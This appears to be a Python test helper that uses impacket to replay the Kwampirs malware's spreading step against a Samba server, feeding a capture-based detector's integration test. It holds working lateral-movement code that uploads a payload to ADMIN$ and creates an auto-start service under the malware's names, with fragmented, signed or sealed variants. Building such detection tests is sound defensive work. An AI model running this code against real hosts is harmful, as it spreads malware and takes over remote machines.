#!/usr/bin/python3
"""impacket_lateral.py - play the Kwampirs spreading step against a real SMB
server with a real client (Debian python3-impacket), for tests/it-net-samba.sh.

    impacket_lateral.py HOST PORT NAME USER PASSWORD smb2|smb1|xp plain|windows|signed|sealed \
        PAYLOAD REMOTE BINPATH

Logs in as USER (NTLM) to HOST:PORT (NAME: the server name the client puts in
its tree-connect paths), copies the local file PAYLOAD to ADMIN$\\REMOTE,
binds \\pipe\\svcctl on IPC$, calls ROpenSCManagerW and RCreateServiceW with
the Kwampirs service name and display name and BINPATH. A server that is not
Windows (Samba) may refuse either call: the requests are on the wire anyway,
which is all a capture-based detector needs. If ROpenSCManagerW fails, the
create call goes out with a made-up handle.

smb2: the highest dialect both sides speak (the server is capped at SMB 2.1
by the test, so the session is not encrypted). smb1: the client offers SMB1
and SMB2 dialects in an SMB1 negotiate, as Windows does; the test's server
speaks only NT1 and answers in SMB1 (an XP-like host). xp: the client offers
only SMB1 ("NT LM 0.12"), as Windows XP does.

plain: impacket's own way to carry DCE/RPC over a pipe: each PDU in one
WRITE (SMB1 WRITE_ANDX), each answer with a READ (READ_ANDX), one fragment
per call. windows: the way Windows clients do it, and harder to follow: call
stubs cut into DCE/RPC fragments of FRAG bytes, each PDU but the last of a
call split over two writes (cut inside the request header), and the last one
sent as a transceive (SMB2 IOCTL FSCTL_PIPE_TRANSCEIVE, SMB1 TRANSACTION
TransactNmPipe) whose answer carries the response. signed / sealed: the
calls authenticated on the pipe itself (NTLMSSP in the bind and AUTH3) at
packet integrity (readable, with a verifier after each stub) or packet
privacy (the stubs encrypted), also cut into fragments.

Prints one JSON line: dialect, SCM handle result, create result.
"""
import json
import struct
import sys

from impacket import smb
from impacket.dcerpc.v5 import rpcrt, scmr, transport
from impacket.smbconnection import SMBConnection

FRAG = 40  # stub bytes per DCE/RPC fragment in the windows variant
SERVICE = "WmiApSrvEx"
DISPLAY = "WMI Performance Adapter Extension"


class WindowsPipeTransport(transport.SMBTransport):
    """DCE/RPC over \\pipe\\svcctl the Windows way (see the module comment)."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self._answers = []

    def _pipe(self):
        return (self.get_smb_connection(), self._SMBTransport__tid,
                self._SMBTransport__handle)

    def send(self, data, forceWriteAndx=0, forceRecv=0):
        conn, tid, fid = self._pipe()
        if data[3] & 0x02:  # PFC_LAST_FRAG: transceive; its answer is the response
            self._answers.append(self._transceive(conn, tid, fid, data))
            return
        # a fragment in two writes, cut inside the request header (Samba reads
        # the 16-byte common header whole, so not before it)
        cut = 21
        conn.writeNamedPipe(tid, fid, data[:cut])
        conn.writeNamedPipe(tid, fid, data[cut:])

    @staticmethod
    def _transceive(conn, tid, fid, data):
        if conn.getDialect() != smb.SMB_DIALECT:
            return conn.transactNamedPipe(tid, fid, data)  # SMB2 IOCTL FSCTL_PIPE_TRANSCEIVE
        # SMB1 TRANSACTION, TransactNmPipe (0x26). impacket 0.10 writes the
        # name \PIPE\ in 8-bit characters into a Unicode session, which Samba
        # refuses (STATUS_NOT_SUPPORTED): send it as Windows does, UTF-16LE
        # after one pad byte (the name starts at an odd offset: 32 + 1 + 32 + 2)
        s = conn.getSMBServer()
        name = b"\x00" + "\\PIPE\\".encode("utf-16le") + b"\x00\x00"
        s.send_trans(tid, struct.pack("<HH", 0x26, fid), name, b"", data)
        r = s.recvSMB()
        r.isValidAnswer(smb.SMB.SMB_COM_TRANSACTION)  # raises on an error status
        resp = smb.SMBCommand(r["Data"][0])
        par = smb.SMBTransactionResponse_Parameters(resp["Parameters"])
        return resp["Data"][-par["TotalDataCount"]:]

    def recv(self, forceRecv=0, count=0):
        if self._answers:
            return self._answers.pop(0)
        return super().recv(forceRecv, count)


def main():
    if len(sys.argv) != 11:
        print(__doc__, file=sys.stderr)
        return 2
    host, port, name, user, password, mode, variant, payload, remote, binpath = sys.argv[1:]
    out = {"mode": mode, "variant": variant}
    # xp: the client offers only the SMB1 dialect, as Windows XP does
    conn = SMBConnection(name, host, sess_port=int(port), timeout=20,
                         preferredDialect=smb.SMB_DIALECT if mode == "xp" else None)
    out["dialect"] = "0x%x" % conn.getDialect() if isinstance(conn.getDialect(), int) \
        else str(conn.getDialect())
    if mode in ("smb1", "xp") and conn.getDialect() != smb.SMB_DIALECT:
        print("expected an SMB1 session, got %s" % out["dialect"], file=sys.stderr)
        return 1
    conn.login(user, password, domain="WORKGROUP")
    with open(payload, "rb") as f:
        conn.putFile("ADMIN$", remote, f.read)

    cls = WindowsPipeTransport if variant == "windows" else transport.SMBTransport
    rpc = cls(host, int(port), filename=r"\svcctl", smb_connection=conn)
    dce = rpc.get_dce_rpc()
    if variant in ("signed", "sealed"):
        dce.set_auth_level(rpcrt.RPC_C_AUTHN_LEVEL_PKT_INTEGRITY if variant == "signed"
                           else rpcrt.RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    dce.connect()
    dce.bind(scmr.MSRPC_UUID_SCMR)
    if variant != "plain":
        dce.set_max_fragment_size(FRAG)
    handle = b"\x00" * 4 + b"WSfakehandle0000"  # 20 bytes: used if OpenSCManagerW fails
    try:
        resp = scmr.hROpenSCManagerW(dce, "%s\x00" % name)
        handle = resp["lpScHandle"]
        out["open_scm"] = "ok"
    except Exception as e:  # noqa: BLE001 - any refusal: go on with a made-up handle
        out["open_scm"] = str(e)[:200]
    try:
        scmr.hRCreateServiceW(dce, handle, SERVICE + "\x00", DISPLAY + "\x00",
                              lpBinaryPathName=binpath + "\x00",
                              dwStartType=scmr.SERVICE_AUTO_START)
        out["create_service"] = "ok"
    except Exception as e:  # noqa: BLE001 - Samba: nca_s_op_rng_error or a fault
        out["create_service"] = str(e)[:200]
    try:
        dce.disconnect()
    except Exception:  # noqa: BLE001
        pass
    conn.logoff()
    conn.close()
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main())
